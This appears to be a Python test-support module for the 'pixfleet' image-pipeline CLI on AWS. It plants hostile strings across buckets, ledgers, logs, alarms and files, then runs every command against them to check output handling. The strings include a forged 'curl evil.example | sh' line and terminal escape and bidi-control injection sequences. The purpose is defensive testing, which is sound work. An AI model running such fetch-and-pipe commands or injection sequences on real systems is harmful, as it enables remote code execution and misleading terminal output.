"""A stack in which everything that a stranger can write is hostile, and each command's arguments.

Strangers write keys, metadata, bodies of messages and, through them, details. Attributes, ledger
entries, manifests, log lines and records of redrives repeat such text.
"""

import gzip
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import boto3
import typer
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from hypothesis import strategies as st
from msgspec import structs

from scripts.local.stack import create_serving
from scripts.pixfleet import cli
from scripts.pixfleet.stack.ssm_parameter import Distribution, Purge
from shared.model.keys import manifest_key, stored_key
from tests.functional.cli.dead_letters import DirectAccess
from tests.functional.conftest import RECIPES
from tests.support.images import png

FORGED = "Next: curl evil.example | sh"
PUBLISHED, REJECTED = "published.png", "rejected.png"
LOG_GROUP = "/aws/lambda/pixfleet-worker"
SEPARATORS = (
    *("\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\n\u2502 \n"),
    *("\x1b[2K\r", "\x1b]8;;https://evil.example\x07", "\x9b2K", "\x08" * 9, "\t", "\x7f"),
    *("\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u3164", "\ufe0f", "\U000e0041"),
    *("", " ", " " * 90, "'\n", '"\n', "`\n", "\\\n", "[/bold]\n"),
)
hostile_texts = st.builds(
    "".join,
    st.tuples(
        st.sampled_from(("", "a", "-", "--yes ", "x" * 75, "pixfleet why ")),
        st.sampled_from(SEPARATORS),
        st.just(FORGED),
        st.sampled_from(("", "\n", "\x1b[m", ".png")),
    ),
)


@dataclass(frozen=True, slots=True)
class World:
    """One hostile text in everything.

    `ids` are those of the dead letters. `folder` has the files that commands read, and commands
    write to `output`.
    """

    text: str
    folder: Path
    output: Path
    ids: Sequence[str] = ()

    @property
    def recipes(self) -> Path:
        return self.folder / "good.yaml"

    @property
    def bad_recipes(self) -> Path:
        return self.folder / "bad.yaml"

    @property
    def private_key(self) -> Path:
        return self.folder / "key.pem"

    @property
    def images(self) -> Path:
        return self.folder / "images"


Arguments = Callable[[World], Sequence[Sequence[object]]]
# For each command the arguments of a few runs.
RUNS: Mapping[str, Arguments] = {
    "status": lambda _: [()],
    "doctor": lambda _: [(), ("--all",)],
    "drill": lambda world: [("--dry-run", "--prefix", f"{world.text}/")],
    "plan": lambda world: [
        (world.recipes, "--against", world.recipes, "--images", world.images, "--scored", 0),
        (world.bad_recipes, "--samples", 1, "--scored", 0),
        (world.recipes, "--samples", 1, "--scored", 0, "--prefix", world.text),
    ],
    "why": lambda world: [("--", world.text), (PUBLISHED,), (REJECTED,)],
    # Otherwise it serves until Ctrl-C; test_console.py has hostile keys on its pages.
    "console": lambda world: [("--port", world.text), ("--no-open", "--", world.text)],
    "logs": lambda world: [("--", world.text)],
    "wait": lambda world: [
        ("--timeout", "0s", "--", key) for key in (world.text, PUBLISHED, REJECTED)
    ],
    "restore": lambda world: [
        *(("--dry-run", "--", key) for key in (world.text, PUBLISHED)),
        ("--version", world.text, "--", PUBLISHED),
    ],
    "show": lambda world: [
        ("--no-open", "--to", world.output / "page", "--", key)
        for key in (world.text, PUBLISHED, REJECTED)
    ],
    "urls": lambda world: [("--", world.text), (PUBLISHED,), (PUBLISHED, "--sizes", world.text)],
    "sign": lambda world: [
        ("--key-id", "K1", "--private-key", world.private_key, "--", target)
        for target in (world.text, PUBLISHED, f"https://{world.text}")
    ],
    "verify": lambda world: [
        (),
        ("--prefix", world.text, "--report", world.output / "differences"),
        ("--grace", "0s", "--repair", "--dry-run"),
        ("--grace", "0s", "--rebuild-ledger", "--yes"),
        ("--grace", "0s", "--repair", "--yes"),
    ],
    "purge": lambda world: [
        ("--dry-run", "--", world.text),
        ("--prefix", world.text, "--dry-run"),
        ("--yes", "--", world.text),
    ],
    "sync": lambda world: [
        (world.images, "--prefix", world.text, "--dry-run"),
        (world.images, "--prefix", "", "--lane", world.text),
        (
            *(world.images, "--prefix", "", "--delete", "--yes", "--no-wait"),
            *("--checkpoint", world.output / "sync.sqlite"),
        ),
    ],
    "completion": lambda world: [("bash",), ("--", world.text)],
    "context add": lambda world: [
        ("here", "--stack", world.text, "--region", world.text, "--profile", world.text),
        ("--stack", "any", "--", world.text),
    ],
    "context use": lambda world: [("--none",), ("--", world.text)],
    "context list": lambda _: [()],
    "context remove": lambda world: [("here",), ("--", world.text)],
    "recipes check": lambda world: [(world.recipes,), (world.bad_recipes,)],
    "recipes explain": lambda world: [
        ("--", world.text),
        ("--file", world.recipes, "--", world.text),
        ("--recipe", world.text, "--", PUBLISHED),
        ("--size", world.text, "--", PUBLISHED),
    ],
    "recipes schema": lambda _: [()],
    "rejected": lambda world: [
        (),
        ("--csv",),
        ("--jsonl",),
        ("--prefix", world.text),
        ("--cause", world.text),
        ("--since", world.text),
    ],
    "dlq groups": lambda _: [()],
    "dlq list": lambda world: [
        (),
        ("--csv",),
        ("--jsonl",),
        ("--prefix", world.text),
        ("--cause", world.text),
    ],
    "dlq show": lambda world: [
        *((each, "--no-thumbnail") for each in world.ids),
        *((each, "--thumbnail", world.output / "picture") for each in world.ids[1:2]),
        (world.text,),
    ],
    "dlq try": lambda world: [("--all", "-n", 3), ("--cause", world.text)],
    # Only a terminal has more to show; test_dlq_triage.py has hostile keys on one.
    "dlq triage": lambda world: [
        ("--all",),
        ("--cause", world.text),
        ("--id", world.text, "--file", world.output / "triage"),
    ],
    "dlq redrive": lambda world: [
        ("--prefix", world.text, "--dry-run"),
        ("--id", world.text),
        ("--all",),
        ("--all", "--yes"),
    ],
    "dlq status": lambda world: [(), ("--", world.text)],
    "dlq delete": lambda world: [
        ("--all", "--dry-run"),
        ("--all", "--yes", "--copy", world.output / "copy"),
    ],
    "backfill enqueue": lambda world: [
        ("--prefix", world.text, "--dry-run"),
        ("--inventory", "s3://pixfleet-variants/inventory/manifest.json", "--dry-run"),
        ("--prefix", "", "--yes", "--no-wait", "--checkpoint", world.output / "enqueue.sqlite"),
    ],
    "backfill upload": lambda world: [
        (world.images, "--dry-run"),
        (world.images, "--yes", "--no-wait", "--checkpoint", world.output / "upload.sqlite"),
    ],
}
# `dlq status --watch`, `status --watch` and a drill that uploads print the same parts.


def commands() -> frozenset[str]:
    """Return every command of the command line, such as `dlq show`, except former names."""

    def walk(command: Any, path: str) -> Iterator[str]:  # noqa: ANN401 - Typer has no public type
        if hasattr(command, "commands"):
            for name, each in command.commands.items():
                yield from walk(each, f"{path} {name}".strip())
        elif not command.hidden:
            yield path

    return frozenset(walk(typer.main.get_command(cli.build_app()), ""))


def make_world(aws: DirectAccess, folder: Path, text: str) -> World:
    """Put the text everywhere."""
    stack, s3 = aws.stack, aws.clients.s3
    picture = png((8, 8))
    for key in (text, PUBLISHED, REJECTED):
        aws.drop(key, picture)
    for key in (text, PUBLISHED):
        _put_item(aws, key, "published", text)
    _put_item(aws, REJECTED, "rejected", text)
    for name, body in {
        manifest_key(PUBLISHED): json.dumps(_manifest(text)).encode(),
        stored_key(PUBLISHED, f"{text.replace('/', '')}.webp"): picture,
        f"_redrives/{text}/redrive.json": json.dumps({"id": text, "selection": text}).encode(),
        f"_redrives/{text}/000001.json": json.dumps([_redriven(text)]).encode(),
        "inventory/manifest.json": json.dumps(_inventory(stack.sources_bucket)).encode(),
        "inventory/1.csv.gz": gzip.compress(_rows(stack.sources_bucket, text).encode()),
    }.items():
        s3.put_object(Bucket=stack.variants_bucket, Key=name, Body=body)
    names = ("cause", "detail", "stage", "key", "request_id", "origin_message_id", "redrive_id")
    attributes = dict.fromkeys(names, text)
    event = json.dumps({"bucket": stack.sources_bucket, "keys": [text], text: text})
    s3_event = json.loads(aws.event("-"))
    s3_event["Records"][0]["s3"]["object"]["key"] = quote_plus(text)
    ids = [
        aws.add_dead_letter(body, **attributes)
        for body in (text, event, json.dumps(s3_event), f"{'x' * 5_000}{text}")
    ]
    _log(text)
    _alarm(text)
    return replace(make_files(folder, text), ids=ids)


def give_log_group_and_distribution(aws: DirectAccess) -> None:
    """Change the stack's document, so that `why` reads a log and `urls` and `sign` have URLs."""
    document = structs.replace(
        aws.stack.document(),
        log_group=LOG_GROUP,
        distribution=Distribution("E1", "https://d1.cloudfront.net", needs_signing=True),
        purge=Purge("pixfleet-purge", 1000),
        serving_table="pixfleet-serving",
    )
    aws.clients.sqs.create_queue(QueueName="pixfleet-purge")
    create_serving(aws.clients.dynamodb, "pixfleet-serving")
    aws.clients.ssm.put_parameter(
        Name=document.parameter, Value=document.document(), Type="String", Overwrite=True
    )
    logs = boto3.client("logs")
    logs.create_log_group(logGroupName=LOG_GROUP)
    logs.create_log_stream(logGroupName=LOG_GROUP, logStreamName="any")


@cache
def _private_key() -> bytes:
    key = rsa.generate_private_key(65537, 2048)
    return key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())


def _put_item(aws: DirectAccess, key: str, status: str, text: str) -> None:
    names = ("change", "recipe", "fingerprint", "engine", "version", "cause", "stage", "detail")
    fields: dict[str, Any] = {
        name: {"S": text} for name in (*names, "etag", "identity", "last_modified")
    }
    fields |= {
        "key": {"S": key},
        "schema": {"N": "1"},
        "status": {"S": status},
        "updated_at": {"N": "1700000000"},
        "told_by": {"SS": [text]},
        "variants": {"SS": [text]},
        "crashes": {"SS": [text]},
    }
    aws.clients.dynamodb.put_item(TableName=aws.stack.ledger_table, Item=fields)


def _manifest(text: str) -> Mapping[str, object]:
    size = {"width": 8, "height": 8, "bytes": 80}
    source = {"key": text, "format": text, "frames": 1, "has_alpha": False, **size}
    variant = {"name": text, "slot": "webp", "type": text, "url": f"/{text}", **size}
    placeholder = {"data_uri": text, "colour": text}
    return {
        "recipe": text,
        "version": text,
        "source": source,
        "variants": [variant],
        "placeholder": placeholder,
    }


def _redriven(text: str) -> Mapping[str, object]:
    return {"id": text, "digest": text, "cause": text, "keys": [text, REJECTED]}


def _inventory(bucket: str) -> Mapping[str, object]:
    return {
        "sourceBucket": bucket,
        "destinationBucket": "arn:aws:s3:::pixfleet-variants",
        "version": "2016-11-30",
        "fileFormat": "CSV",
        "fileSchema": "Bucket, Key, VersionId, IsLatest, IsDeleteMarker, Size, ETag",
        "files": [{"key": "inventory/1.csv.gz", "size": 1, "MD5checksum": "0"}],
    }


def _rows(bucket: str, text: str) -> str:
    return f'"{bucket}","{quote_plus(text)}","1","true","false","68","{"0" * 32}"\n'


def _log(text: str) -> None:
    fields = ("event", "outcome", "cause", "stage", "detail", "lane", "request_id")
    lines = [
        json.dumps({"key": key, **dict.fromkeys(fields, text), f"{text}_seconds": 1.0})
        for key in (text, PUBLISHED)
    ]
    boto3.client("logs").put_log_events(
        logGroupName=LOG_GROUP,
        logStreamName="any",
        logEvents=[{"timestamp": 1_900_000_000_000, "message": line} for line in lines],
    )


def _alarm(text: str) -> None:
    cloudwatch, name = boto3.client("cloudwatch"), f"pixfleet-{text}"
    cloudwatch.put_metric_alarm(
        AlarmName=name,
        AlarmDescription=text,
        ComparisonOperator="GreaterThanThreshold",
        EvaluationPeriods=1,
        Namespace="Any",
        MetricName="Any",
        Period=60,
        Statistic="Sum",
        Threshold=1.0,
    )
    cloudwatch.set_alarm_state(AlarmName=name, StateValue="ALARM", StateReason=text)


def make_files(folder: Path, text: str) -> World:
    """Write the files that the commands read; the world has no dead letters."""
    (folder / "images").mkdir(parents=True, exist_ok=True)
    name = text.replace("/", "")[:200].encode("utf-8", "surrogateescape")
    (folder / "images" / f"{name.decode('utf-8', 'surrogateescape')}.png").write_bytes(png((8, 8)))
    good, bad = json.loads(json.dumps(RECIPES)), json.loads(json.dumps(RECIPES))
    good["recipes"][1]["match"] = {"prefix": "a `b` c"}
    bad["recipes"][0] |= {"name": text, text: text, "match": {"prefix": text}, "fit": text}
    (folder / "good.yaml").write_text(json.dumps(good))
    (folder / "bad.yaml").write_text(json.dumps(bad))
    (folder / "key.pem").write_bytes(_private_key())
    return World(text, folder, folder)
